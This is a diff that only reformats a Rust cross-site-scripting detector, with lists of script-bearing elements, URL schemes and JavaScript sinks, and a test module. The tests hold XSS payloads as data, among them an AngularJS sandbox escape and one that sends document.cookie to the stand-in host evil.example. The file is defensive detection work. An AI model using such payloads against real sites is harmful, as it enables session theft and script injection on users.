@@ -23,21 +23,63 @@ use crate::transform::TextTransformation;
 
 /// Whether `input` carries cross-site scripting.
 pub fn is_xss(input: &[u8]) -> bool {
-    if !input.iter().any(|b| matches!(b, b'<' | b'=' | b':' | b'\'' | b'"' | b'`' | b'{' | b'(')) {
+    if !input
+        .iter()
+        .any(|b| matches!(b, b'<' | b'=' | b':' | b'\'' | b'"' | b'`' | b'{' | b'('))
+    {
         return false;
     }
     let lower = input.to_ascii_lowercase();
-    has_active_tag(&lower) || attribute_breakout(&lower) || script_string_breakout(&lower) || starts_with_script_url(&lower) || template_injection(&lower)
+    has_active_tag(&lower)
+        || attribute_breakout(&lower)
+        || script_string_breakout(&lower)
+        || starts_with_script_url(&lower)
+        || template_injection(&lower)
 }
 
 /// How far past a tag name (or a quote) attributes are read.
 const TAG_WINDOW: usize = 1024;
 
 /// Elements that run or load code as soon as they are opened.
-const ACTIVE_ELEMENTS: &[&[u8]] = &[b"script", b"iframe", b"frame", b"frameset", b"object", b"embed", b"applet", b"base", b"import", b"isindex", b"style", b"xss", b"portal", b"noembed"];
+const ACTIVE_ELEMENTS: &[&[u8]] = &[
+    b"script",
+    b"iframe",
+    b"frame",
+    b"frameset",
+    b"object",
+    b"embed",
+    b"applet",
+    b"base",
+    b"import",
+    b"isindex",
+    b"style",
+    b"xss",
+    b"portal",
+    b"noembed",
+];
 
 /// Attributes whose value is a URL a browser loads or navigates to.
-const URL_ATTRIBUTES: &[&[u8]] = &[b"href", b"src", b"action", b"formaction", b"data", b"xlink:href", b"background", b"dynsrc", b"lowsrc", b"poster", b"code", b"codebase", b"srcdoc", b"content", b"to", b"from", b"values", b"by", b"folder"];
+const URL_ATTRIBUTES: &[&[u8]] = &[
+    b"href",
+    b"src",
+    b"action",
+    b"formaction",
+    b"data",
+    b"xlink:href",
+    b"background",
+    b"dynsrc",
+    b"lowsrc",
+    b"poster",
+    b"code",
+    b"codebase",
+    b"srcdoc",
+    b"content",
+    b"to",
+    b"from",
+    b"values",
+    b"by",
+    b"folder",
+];
 
 fn is_space(b: u8) -> bool {
     b.is_ascii_whitespace() || b == 0x0b || b == 0
@@ -55,12 +97,18 @@ fn has_active_tag(lower: &[u8]) -> bool {
             continue;
         }
         let mut end = name_start;
-        while end < lower.len() && !is_space(lower[end]) && !matches!(lower[end], b'/' | b'>' | b'<') {
+        while end < lower.len()
+            && !is_space(lower[end])
+            && !matches!(lower[end], b'/' | b'>' | b'<')
+        {
             end += 1;
         }
         let name = &lower[name_start..end];
         if closing {
-            if name == b"script" || name == b"style" || name == b"title" && lower[end..].starts_with(b"><script") {
+            if name == b"script"
+                || name == b"style"
+                || name == b"title" && lower[end..].starts_with(b"><script")
+            {
                 return true;
             }
             continue;
@@ -106,7 +154,10 @@ fn attributes(lower: &[u8], mut i: usize, limit: usize) -> (Vec<Attribute<'_>>, 
         // A quote can start an attribute name (`"onmouseover=`), which HTML ignores as a
         // character of the name.
         let name = &lower[name_start..i];
-        let name = name.strip_prefix(b"\"").or_else(|| name.strip_prefix(b"'")).unwrap_or(name);
+        let name = name
+            .strip_prefix(b"\"")
+            .or_else(|| name.strip_prefix(b"'"))
+            .unwrap_or(name);
         let mut j = i;
         while j < n && is_space(lower[j]) {
             j += 1;
@@ -118,7 +169,10 @@ fn attributes(lower: &[u8], mut i: usize, limit: usize) -> (Vec<Attribute<'_>>, 
             }
             let (value, after) = match lower.get(j) {
                 Some(&q) if q == b'"' || q == b'\'' || q == b'`' => {
-                    let close = lower[j + 1..].iter().position(|&c| c == q).map_or(n, |p| j + 1 + p);
+                    let close = lower[j + 1..]
+                        .iter()
+                        .position(|&c| c == q)
+                        .map_or(n, |p| j + 1 + p);
                     (&lower[j + 1..close], (close + 1).min(n))
                 }
                 _ => {
@@ -130,7 +184,12 @@ fn attributes(lower: &[u8], mut i: usize, limit: usize) -> (Vec<Attribute<'_>>, 
                 }
             };
             // Browsers decode character references in attribute values.
-            found.push((name, TextTransformation::HtmlEntityDecode.apply(value).to_ascii_lowercase()));
+            found.push((
+                name,
+                TextTransformation::HtmlEntityDecode
+                    .apply(value)
+                    .to_ascii_lowercase(),
+            ));
             i = after;
         } else {
             found.push((name, Vec::new()));
@@ -167,22 +226,52 @@ fn dangerous_attributes(element: &[u8], attributes: &[Attribute]) -> bool {
 /// A URL with a scheme that runs script, ignoring the whitespace and control characters
 /// browsers strip from URLs (`java\tscript:`).
 fn is_script_url(value: &[u8]) -> bool {
-    let compact: Vec<u8> = value.iter().copied().filter(|&b| b > 0x20).take(32).collect();
+    let compact: Vec<u8> = value
+        .iter()
+        .copied()
+        .filter(|&b| b > 0x20)
+        .take(32)
+        .collect();
     let compact = compact.strip_prefix(b"url=").unwrap_or(&compact);
-    let after_separator = compact.iter().position(|&b| b == b';').map(|p| &compact[p + 1..]);
-    let script_scheme = |v: &[u8]| v.starts_with(b"javascript:") || v.starts_with(b"vbscript:") || v.starts_with(b"livescript:") || v.starts_with(b"data:text/html") || v.starts_with(b"data:image/svg") || v.starts_with(b"data:application/x");
-    script_scheme(compact) || after_separator.is_some_and(|v| script_scheme(v.strip_prefix(b"url=").unwrap_or(v)))
+    let after_separator = compact
+        .iter()
+        .position(|&b| b == b';')
+        .map(|p| &compact[p + 1..]);
+    let script_scheme = |v: &[u8]| {
+        v.starts_with(b"javascript:")
+            || v.starts_with(b"vbscript:")
+            || v.starts_with(b"livescript:")
+            || v.starts_with(b"data:text/html")
+            || v.starts_with(b"data:image/svg")
+            || v.starts_with(b"data:application/x")
+    };
+    script_scheme(compact)
+        || after_separator.is_some_and(|v| script_scheme(v.strip_prefix(b"url=").unwrap_or(v)))
 }
 
 fn scripted_style(value: &[u8]) -> bool {
     let compact: Vec<u8> = value.iter().copied().filter(|&b| !is_space(b)).collect();
-    [&b"expression("[..], b"-moz-binding", b"behavior:", b"url(javascript", b"url('javascript", b"url(\"javascript", b"@import"].iter().any(|p| memchr::memmem::find(&compact, p).is_some())
+    [
+        &b"expression("[..],
+        b"-moz-binding",
+        b"behavior:",
+        b"url(javascript",
+        b"url('javascript",
+        b"url(\"javascript",
+        b"@import",
+    ]
+    .iter()
+    .any(|p| memchr::memmem::find(&compact, p).is_some())
 }
 
 /// A quote that closes an attribute value, then a new event handler or scripted attribute:
 /// `" onmouseover="alert(1)`, `' autofocus onfocus=alert(1) '`, `" style="x:expression(...)`.
 fn attribute_breakout(lower: &[u8]) -> bool {
-    for (q, _) in lower.iter().enumerate().filter(|(_, b)| matches!(b, b'"' | b'\'' | b'`')) {
+    for (q, _) in lower
+        .iter()
+        .enumerate()
+        .filter(|(_, b)| matches!(b, b'"' | b'\'' | b'`'))
+    {
         let rest = &lower[q + 1..];
         let mut i = 0;
         while i < rest.len() && (is_space(rest[i]) || rest[i] == b'/' || rest[i] == b'>') {
@@ -193,8 +282,13 @@ fn attribute_breakout(lower: &[u8]) -> bool {
         }
         // The handler an attacker adds comes among the first attributes after the quote.
         let (attributes, _) = attributes(&rest[..rest.len().min(i + TAG_WINDOW)], i, 4);
-        let handler = attributes.iter().any(|(name, value)| is_event_handler(name) && !value.is_empty());
-        if handler || dangerous_attributes(b"", &attributes[..attributes.len().min(4)]) && attributes.iter().any(|(_, v)| !v.is_empty()) {
+        let handler = attributes
+            .iter()
+            .any(|(name, value)| is_event_handler(name) && !value.is_empty());
+        if handler
+            || dangerous_attributes(b"", &attributes[..attributes.len().min(4)])
+                && attributes.iter().any(|(_, v)| !v.is_empty())
+        {
             return true;
         }
     }
@@ -226,15 +320,45 @@ fn attribute_breakout(lower: &[u8]) -> bool {
 
 /// Functions and objects injected script reaches for.
 const SINKS: &[&[u8]] = &[
-    b"alert", b"confirm", b"prompt", b"eval", b"settimeout", b"setinterval", b"function", b"fetch", b"import", b"document.", b"window.", b"location", b"top.", b"self.", b"parent.",
-    b"this.", b"constructor", b"atob", b"string.fromcharcode", b"print", b"open", b"xmlhttprequest", b"navigator.", b"localstorage", b"globalthis", b"frames",
+    b"alert",
+    b"confirm",
+    b"prompt",
+    b"eval",
+    b"settimeout",
+    b"setinterval",
+    b"function",
+    b"fetch",
+    b"import",
+    b"document.",
+    b"window.",
+    b"location",
+    b"top.",
+    b"self.",
+    b"parent.",
+    b"this.",
+    b"constructor",
+    b"atob",
+    b"string.fromcharcode",
+    b"print",
+    b"open",
+    b"xmlhttprequest",
+    b"navigator.",
+    b"localstorage",
+    b"globalthis",
+    b"frames",
 ];
 
 /// Whether `rest` (after optional quotes, spaces and operators) calls or references a sink:
 /// `alert(1)`, `alert`1``, `window.location=...`, `top['al'+'ert'](1)`.
 fn calls_code(rest: &[u8]) -> bool {
     let mut i = 0;
-    while i < rest.len() && (is_space(rest[i]) || matches!(rest[i], b'"' | b'\'' | b'`' | b'(' | b'[' | b'+' | b'-' | b'!' | b'~' | b'{')) {
+    while i < rest.len()
+        && (is_space(rest[i])
+            || matches!(
+                rest[i],
+                b'"' | b'\'' | b'`' | b'(' | b'[' | b'+' | b'-' | b'!' | b'~' | b'{'
+            ))
+    {
         i += 1;
     }
     let rest = &rest[i..];
@@ -242,14 +366,22 @@ fn calls_code(rest: &[u8]) -> bool {
         rest.starts_with(sink) && {
             let mut after = &rest[sink.len()..];
             // `document.cookie`, `window.location.href`: the member chain, then the use.
-            while let Some(p) = after.iter().position(|b| !(b.is_ascii_alphanumeric() || *b == b'_' || *b == b'$' || *b == b'.')) {
+            while let Some(p) = after.iter().position(|b| {
+                !(b.is_ascii_alphanumeric() || *b == b'_' || *b == b'$' || *b == b'.')
+            }) {
                 if p == 0 || !sink.ends_with(b".") && !after.starts_with(b".") {
                     break;
                 }
                 after = &after[p..];
             }
-            let after = after.iter().position(|b| !is_space(*b)).map_or(&after[after.len()..], |p| &after[p..]);
-            matches!(after.first(), Some(b'(') | Some(b'`') | Some(b'=') | Some(b'[')) && after.get(1) != Some(&b'=')
+            let after = after
+                .iter()
+                .position(|b| !is_space(*b))
+                .map_or(&after[after.len()..], |p| &after[p..]);
+            matches!(
+                after.first(),
+                Some(b'(') | Some(b'`') | Some(b'=') | Some(b'[')
+            ) && after.get(1) != Some(&b'=')
         }
     })
 }
@@ -257,11 +389,36 @@ fn calls_code(rest: &[u8]) -> bool {
 /// A quote that ends a script string, then an operator or statement end, then a call of a
 /// sink: `';alert(1)//`, `"-confirm(1)-"`, `\";alert(1);//`, `'}alert(1);{'`.
 fn script_string_breakout(lower: &[u8]) -> bool {
-    for (q, _) in lower.iter().enumerate().filter(|(_, b)| matches!(b, b'"' | b'\'' | b'`')) {
+    for (q, _) in lower
+        .iter()
+        .enumerate()
+        .filter(|(_, b)| matches!(b, b'"' | b'\'' | b'`'))
+    {
         let rest = &lower[q + 1..];
         let mut i = 0;
         let mut separators = 0;
-        while i < rest.len() && (is_space(rest[i]) || matches!(rest[i], b';' | b'+' | b'-' | b'*' | b'/' | b'|' | b'&' | b',' | b')' | b'}' | b'^' | b'%' | b'<' | b'>' | b'=' | b'?' | b':')) {
+        while i < rest.len()
+            && (is_space(rest[i])
+                || matches!(
+                    rest[i],
+                    b';' | b'+'
+                        | b'-'
+                        | b'*'
+                        | b'/'
+                        | b'|'
+                        | b'&'
+                        | b','
+                        | b')'
+                        | b'}'
+                        | b'^'
+                        | b'%'
+                        | b'<'
+                        | b'>'
+                        | b'='
+                        | b'?'
+                        | b':'
+                ))
+        {
             if !is_space(rest[i]) {
                 separators += 1;
             }
@@ -281,12 +438,24 @@ fn starts_with_script_url(lower: &[u8]) -> bool {
         if let Some(after) = skip_scheme(lower, scheme) {
             let code = &lower[after..];
             // `javascript://...` comments out its first line; the code runs from the next.
-            let code = if code.trim_ascii_start().starts_with(b"//") { code.iter().position(|&b| b == b'\n' || b == b'\r').map_or(&code[code.len()..], |p| &code[p + 1..]) } else { code };
+            let code = if code.trim_ascii_start().starts_with(b"//") {
+                code.iter()
+                    .position(|&b| b == b'\n' || b == b'\r')
+                    .map_or(&code[code.len()..], |p| &code[p + 1..])
+            } else {
+                code
+            };
             return calls_code(code) || has_call(code);
         }
     }
-    let compact: Vec<u8> = lower.iter().copied().filter(|&b| b > 0x20).take(64).collect();
-    compact.starts_with(b"data:text/html") && (compact.starts_with(b"data:text/html;base64,") || memchr::memchr(b'<', lower).is_some())
+    let compact: Vec<u8> = lower
+        .iter()
+        .copied()
+        .filter(|&b| b > 0x20)
+        .take(64)
+        .collect();
+    compact.starts_with(b"data:text/html")
+        && (compact.starts_with(b"data:text/html;base64,") || memchr::memchr(b'<', lower).is_some())
 }
 
 /// The index after `scheme` at the start of `value`, skipping the whitespace and control
@@ -310,7 +479,11 @@ fn skip_scheme(value: &[u8], scheme: &[u8]) -> Option<usize> {
 
 /// Any identifier immediately called: `foo(1)`, `a.b(c)`.
 fn has_call(code: &[u8]) -> bool {
-    code.windows(2).enumerate().any(|(i, w)| (w[0].is_ascii_alphanumeric() || w[0] == b'_' || w[0] == b'$') && (w[1] == b'(' || w[1] == b'`') && code[..=i].iter().any(u8::is_ascii_alphabetic))
+    code.windows(2).enumerate().any(|(i, w)| {
+        (w[0].is_ascii_alphanumeric() || w[0] == b'_' || w[0] == b'$')
+            && (w[1] == b'(' || w[1] == b'`')
+            && code[..=i].iter().any(u8::is_ascii_alphabetic)
+    })
 }
 
 /// AngularJS-style template expressions that escape the sandbox, and JS template literals
@@ -321,7 +494,9 @@ fn template_injection(lower: &[u8]) -> bool {
         memchr::memmem::find_iter(lower, open).any(|at| {
             let body = &lower[at + open.len()..];
             let body = memchr::memmem::find(body, close).map_or(body, |end| &body[..end]);
-            memchr::memmem::find(body, b"constructor").is_some() || memchr::memmem::find(body, b"$eval").is_some() || calls_code(body)
+            memchr::memmem::find(body, b"constructor").is_some()
+                || memchr::memmem::find(body, b"$eval").is_some()
+                || calls_code(body)
         })
     };
     in_braces(b"{{", b"}}") || in_braces(b"${", b"}")
@@ -354,7 +529,9 @@ mod tests {
         assert!(xss("<a href=\"jav&#x09;ascript:alert(1)\">x</a>"));
         assert!(xss("<a href=\"java\tscript:alert(1)\">x</a>"));
         assert!(xss("<div style=\"width:expression(alert(1))\">"));
-        assert!(xss("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"));
+        assert!(xss(
+            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"
+        ));
     }
 
     #[test]
@@ -368,7 +545,9 @@ mod tests {
     fn script_string_breakouts_are_xss() {
         assert!(xss("';alert(1)//"));
         assert!(xss("\"-confirm(1)-\""));
-        assert!(xss("';window.location='http://evil.example/'+document.cookie;//"));
+        assert!(xss(
+            "';window.location='http://evil.example/'+document.cookie;//"
+        ));
     }
 
     #[test]
@@ -376,7 +555,9 @@ mod tests {
         assert!(xss("javascript:alert(1)"));
         assert!(xss("javascript://\nalert(1)"));
         assert!(xss("{{constructor.constructor('alert(1)')()}}"));
-        assert!(xss("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="));
+        assert!(xss(
+            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
+        ));
     }
 
     #[test]
@@ -386,7 +567,11 @@ mod tests {
             let input = filler.repeat(64 * 1024 / filler.len());
             let _ = is_xss(input.as_bytes());
         }
-        assert!(started.elapsed() < std::time::Duration::from_secs(2), "{:?}", started.elapsed());
+        assert!(
+            started.elapsed() < std::time::Duration::from_secs(2),
+            "{:?}",
+            started.elapsed()
+        );
     }
 
     #[test]
